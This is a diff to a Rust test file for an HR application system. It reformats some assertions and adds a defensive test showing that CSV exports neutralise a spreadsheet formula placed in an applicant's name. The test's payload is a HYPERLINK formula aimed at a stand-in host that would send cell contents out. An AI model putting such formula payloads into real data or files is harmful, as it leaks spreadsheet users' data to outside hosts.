@@ -588,15 +588,21 @@ async fn document_limits_hold_under_concurrency_and_removed_files_are_bounded(po
         replaced += 1;
         assert!(replaced < 100, "replacing never stopped");
     }
-    assert_eq!(replaced, 23, "24 files of 5 MB fill the 120 MB a round may hold");
-    let stored: i64 = sqlx::query_scalar(
-        "select sum(byte_size)::bigint from application_documents",
-    )
-    .fetch_one(&pool)
-    .await
-    .unwrap();
+    assert_eq!(
+        replaced, 23,
+        "24 files of 5 MB fill the 120 MB a round may hold"
+    );
+    let stored: i64 =
+        sqlx::query_scalar("select sum(byte_size)::bigint from application_documents")
+            .fetch_one(&pool)
+            .await
+            .unwrap();
     assert!(stored <= 2 * 12 * five_mb as i64);
-    assert_eq!(current(pool.clone()).await, 1, "the last file is still current");
+    assert_eq!(
+        current(pool.clone()).await,
+        1,
+        "the last file is still current"
+    );
 }
 
 #[sqlx::test(migrations = "../migrations")]
@@ -1092,4 +1098,29 @@ async fn lists_follow_vietnamese_name_order(pool: PgPool) {
         csv.find("Anh Thị Zung").unwrap(),
     );
     assert!(an < zung, "{csv}");
+}
+
+#[sqlx::test(migrations = "../migrations")]
+async fn a_name_written_as_a_formula_is_exported_as_text(pool: PgPool) {
+    let f = setup(&pool).await;
+    let a = ready_applicant(&f, "a@example.vn", "040198000001").await;
+    let (id, ..) = submitted(&submit(&f.app, &a, f.round).await);
+    let name = r#"=HYPERLINK("http://x.example/?"&B2&C2,"Xem")"#;
+    sqlx::query("update applications set full_name = $2 where id = $1")
+        .bind(id)
+        .bind(name)
+        .execute(&pool)
+        .await
+        .unwrap();
+    let csv = f
+        .app
+        .get(
+            &format!("/hr/rounds/{}/applications/all.csv", f.round),
+            Some(&f.hr),
+        )
+        .await;
+    assert_eq!(csv.status, StatusCode::OK, "{}", csv.body);
+    // One apostrophe first, so the spreadsheet shows the text instead of running it.
+    let quoted = format!("\"'{}\"", name.replace('"', "\"\""));
+    assert!(csv.body.contains(&quoted), "{}", csv.body);
 }
